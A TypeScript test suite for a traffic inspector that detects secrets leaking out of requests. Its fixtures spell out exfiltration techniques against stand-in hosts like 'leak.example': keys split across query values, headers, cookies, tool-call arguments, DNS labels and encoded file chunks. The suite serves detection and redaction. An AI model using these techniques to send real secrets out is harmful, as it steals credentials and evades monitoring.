import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { InspectedTraffic } from '../inspected_exchange.ts';

const split = suite('secrets in pieces');

const KEY = `AKIA${'QYLPMN5HHHFPZAM2'}`;
const [A, B, C] = [KEY.slice(0, 3), KEY.slice(3, 9), KEY.slice(9)];
const DEST = 'c.example:443';

/** `location decoding` of each finding about requests with these heads, or bodies. */
async function seen(
  requests: ReadonlyArray<{ head?: string; body?: string }>,
  dest = DEST,
): Promise<string[]> {
  const traffic = new InspectedTraffic();
  for (const { head = 'POST /', body } of requests) {
    await traffic.exchange(dest, body === undefined ? { head } : { head, body });
  }
  assert.equal(traffic.faults, []);
  const all = [...traffic.findings.values()];
  for (const { snippet, location, dest: shown } of all) {
    const text = `${snippet} ${location} ${shown}`.toLowerCase();
    for (const piece of [B, C]) assert.not.ok(text.includes(piece.toLowerCase()), text);
  }
  return all.map(({ location, decoding }) => [location, ...decoding].join(' '));
}

split('are found across the values of one request', async () => {
  const part = (name: string, value: string): string =>
    `--B\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`;
  const tool = {
    method: 'tools/call',
    params: { name: 'send it', arguments: { to: 'a b', x: A, y: B, z: C } },
  };
  const nested = { arguments: JSON.stringify({ x: A, y: `${B}${C}` }) };
  const cases: Record<string, { head?: string; body?: string; at: string }> = {
    query: { head: `GET /?a=${A}&b=${B}&c=${C}`, at: 'request.target' },
    'query, numbered': { head: `GET /?p3=${C}&v=1&p1=${A}&p2=${B}`, at: 'request.target' },
    path: { head: `GET /x/${A}/${B}/${C}?v=1`, at: 'request.target' },
    fields: { head: `GET /\nX-A: ${A}\nAccept: */*\nX-B: ${B}\nX-C: ${C}`, at: 'request.header' },
    cookies: { head: `GET /\nCookie: a=${A}; b=${B}; c=${C}`, at: 'request.header.cookie' },
    JSON: { body: JSON.stringify({ a: A, b: B, c: C }), at: 'request.body' },
    'a list': { body: JSON.stringify(['x y', ...KEY]), at: 'request.body' },
    'arguments of a tool': { body: JSON.stringify(tool), at: 'request.body' },
    'JSON in JSON': { body: JSON.stringify(nested), at: 'request.body' },
    form: { body: `a=${A}&b=${B}&c=${C}`, at: 'request.body' },
    parts: { body: `${part('a', A)}${part('b', B)}${part('c', C)}--B--\r\n`, at: 'request.body' },
  };
  for (const [name, { at, ...request }] of Object.entries(cases)) {
    assert.equal(await seen([request]), [`${at} split`], name);
  }
});

split('are found in names of fields, and in what a resolver is asked for', async () => {
  const cut = `${KEY.slice(0, 9)}.${KEY.slice(9)}`;
  for (const head of [
    `GET /\nX-${KEY}: 1`,
    `GET /\nx-${KEY.toLowerCase()}: 1`,
    `GET /\nAccept: */*\nX-${Buffer.from(KEY).toString('hex')}: 1`,
  ]) {
    const [found = '', ...others] = await seen([{ head }]);
    assert.match(found, /^request\.header(?: hex)?$/, head);
    assert.equal(others, [], head);
  }
  assert.equal(await seen([{ head: `GET /resolve?name=${cut}.x.example.com&type=TXT` }]), [
    'request.target split',
  ]);
  assert.equal(await seen([{ head: `GET /resolve?name=${KEY.toLowerCase()}.x.example.com.` }]), [
    'request.target case',
  ]);
  assert.equal(await seen([A, B, C].map((piece) => ({ head: `GET /resolve?name=${piece}.x.example.com` }))), [
    'request.target split',
  ]);
  const pieces = KEY.match(/.{1,4}/g)?.map((piece) => Buffer.from(piece).toString('base64')) ?? [];
  assert.equal(await seen([{ body: JSON.stringify({ d: pieces }) }]), ['request.body split base64']);
  for (const head of [
    'GET /resolve?name=www.a1.akia-hotel.example.com&type=A',
    'GET /\nX-RateLimit-Remaining-Tokens-5m: 1\nX-Amz-Content-Sha256: a\nX-Akia-Client-Version-2: 7',
  ]) {
    assert.equal(await seen([{ head }]), [], head);
  }
});

split('are found across requests to one destination, among other values', async () => {
  assert.equal(await seen([A, B, C].map((piece) => ({ head: `GET /x?v=1&d=${piece}` }))), [
    'request.target split',
  ]);
  assert.equal(await seen([A, B, C].map((piece) => ({ head: `GET /x/${piece}` }))), ['request.target split']);
  assert.equal(await seen([A, B, C].map((piece) => ({ body: piece }))), ['request.body split']);
  assert.equal(await seen([A, B, C].map((piece) => ({ body: JSON.stringify({ n: 'a b', d: piece }) }))), [
    'request.body split',
  ]);
});

/** A file with a key in it, which nothing but its encoding says is text. */
const FILE = `# settings of the agent\nregion = eu\nkey = ${KEY}\n`;

function inPieces(text: string, length: number): string[] {
  return text.match(new RegExp(`.{1,${length}}`, 'g')) ?? [];
}

split('of a file that was encoded and sent bit by bit are found, wherever the bits stand', async () => {
  for (const encoding of ['hex', 'base64', 'base64url'] as const) {
    const bits = inPieces(Buffer.from(FILE).toString(encoding), 20);
    const requests: ReadonlyArray<(bit: string, n: number) => { head?: string; body?: string }> = [
      (bit: string, n: number) => ({ head: `GET /?i=${n}&d=${encodeURIComponent(bit)}` }),
      (bit: string, n: number) => ({ head: `GET /x/${n}\nX-Trace: ${bit}\nX-Request-Id: r${n}` }),
      (bit: string, n: number) => ({ head: `GET /\nCookie: a=${n}; s=${bit}` }),
      (bit: string) => ({ head: `GET /\nUser-Agent: ${bit}` }),
      (bit: string, n: number) => ({ body: JSON.stringify({ n, d: bit, note: 'some words '.repeat(9) }) }),
    ];
    for (const request of requests) {
      const [found = '', ...others] = await seen(bits.map(request));
      assert.match(found, /^request\.(?:target|header|body) split base64$|^request\.\w+ split hex$/);
      assert.equal(others, []);
    }
  }
  assert.equal(await seen(inPieces(FILE.replace(/\W+/g, ''), 20).map((d) => ({ head: `GET /?d=${d}` }))), []);
});

split('of a file are found in the names of hosts, among labels that stay', async () => {
  for (const dest of [
    (bit: string) => `${bit}.t.leak.example:443`,
    (bit: string, n: number) => `${bit}.${n}.leak.example:443`,
  ]) {
    const traffic = new InspectedTraffic();
    for (const [n, bit] of inPieces(Buffer.from(FILE).toString('hex'), 40).entries())
      await traffic.exchange(dest(bit, n), { head: 'GET /' });
    assert.equal(traffic.told, ['aws_access_key_id destination critical']);
    for (const { dest: shown } of traffic.findings.values()) assert.is(shown, '[REDACTED].leak.example:443');
  }
  const whole = inPieces(Buffer.from(FILE).toString('hex'), 60).join('.');
  assert.equal(await seen([{ head: 'GET /' }], `${whole}.leak.example:443`), ['destination split hex']);
});

split('stand in hosts that fields name, in trailers, and behind other words', async () => {
  const label = KEY.toLowerCase();
  for (const [field, value] of [
    ['host', `${label}.cdn.example`],
    ['origin', `https://${label.slice(0, 9)}.${label.slice(9)}.cdn.example`],
  ]) {
    const [found = '', ...others] = await seen([{ head: `GET /\n${field}: ${value}` }]);
    assert.match(found, new RegExp(`^request\\.header\\.${field}(?: split| case)?$`));
    assert.equal(others, []);
  }
  const traffic = new InspectedTraffic();
  const exchange = traffic.open(DEST);
  exchange.requestHead('POST /');
  await exchange.requestEnd(`X-A: ${A}\nX-B: ${B}${C}`);
  await exchange.close('complete');
  assert.equal(traffic.told, ['aws_access_key_id request.trailer critical']);
  const said = [A, B, C].map((piece, n) => ({ body: JSON.stringify({ text: `part ${n}: ${piece}` }) }));
  assert.equal(await seen(said), ['request.body split']);
});

split('that hide text are ordered by what counts them', async () => {
  const bits = inPieces(Buffer.from(FILE).toString('base64'), 16).map((bit, n) => ({
    head: `GET /?i=${n}&d=${bit}`,
  }));
  const [first, second, ...others] = bits;
  assert.equal(await seen([second ?? {}, ...others.toReversed(), first ?? {}]), [
    'request.target split base64',
  ]);
});

split('of a token of no vendor are found by its structure', async () => {
  const part = (value: unknown): string => Buffer.from(JSON.stringify(value)).toString('base64url');
  const token = `${part({ alg: 'HS256', typ: 'JWT' })}.${part({ sub: '4711', role: 'admin' })}.c2lnbmF0dXJlLXF3ZXJ0eXVpb3A`;
  const [a = '', b = '', c = ''] = inPieces(token, 40);
  assert.equal(await seen([{ body: JSON.stringify({ a, b, c }) }]), ['request.body split']);
  assert.equal(await seen([{ head: `GET /?d=${a}` }, { head: `GET /?d=${b}` }, { head: `GET /?d=${c}` }]), [
    'request.target split',
  ]);
});

split('are found in the labels of a host, which no finding shows', async () => {
  const labels = KEY.toLowerCase();
  assert.equal(await seen([{}], `${labels}.leak.example:443`), ['destination']);
  assert.equal(await seen([{}], `${labels.slice(0, 9)}.${labels.slice(9)}.leak.example:443`), [
    'destination split',
  ]);
  const traffic = new InspectedTraffic();
  for (const piece of [A, B, C])
    await traffic.exchange(`${piece.toLowerCase()}.leak.example:443`, { head: 'GET /' });
  assert.equal(traffic.told, ['aws_access_key_id destination critical']);
});

split('in a host are told once, though its name is a header, too', async () => {
  const host = `sk-proj-${'k3jv9a1bq0zr7tx2mw5n'.repeat(2)}.b8cd2fgh4jk6.leak.example`;
  for (const head of [`GET /\nHost: ${host}`, `GET /\nHost: ${host}:443`]) {
    const traffic = new InspectedTraffic();
    await traffic.exchange(`${host}:443`, { head });
    assert.equal(traffic.told, ['openai_project_key destination critical']);
    assert.is([...traffic.findings.values()][0]?.dest, '[REDACTED].leak.example:443');
  }
  const other = new InspectedTraffic();
  await other.exchange('cdn.example:443', { head: `GET /\nHost: ${host}` });
  assert.equal(other.told, ['openai_project_key request.header.host critical']);
});

split('are a step worse than whole, and told as such', async () => {
  const traffic = new InspectedTraffic();
  await traffic.exchange('api.openai.com:443', { head: `GET /?a=${A}&b=${B}${C}` });
  const [finding] = traffic.findings.values();
  assert.is(finding?.severity, 'high');
  assert.equal(finding?.reasons, ['known_provider', 'split']);
});

split('are no matter of answers, nor of a body that is not small', async () => {
  const traffic = new InspectedTraffic();
  const body = JSON.stringify({ a: A, b: B + C });
  await traffic.exchange(DEST, {}, { head: '200 OK', body });
  await traffic.exchange(DEST, { body: `${' '.repeat(4096)}${body}` });
  assert.equal(traffic.told, []);
});

split('is not said of a secret that one value holds', async () => {
  assert.equal(await seen([{ head: `GET /?a=${KEY}&b=1` }]), ['request.target']);
});

split.run();
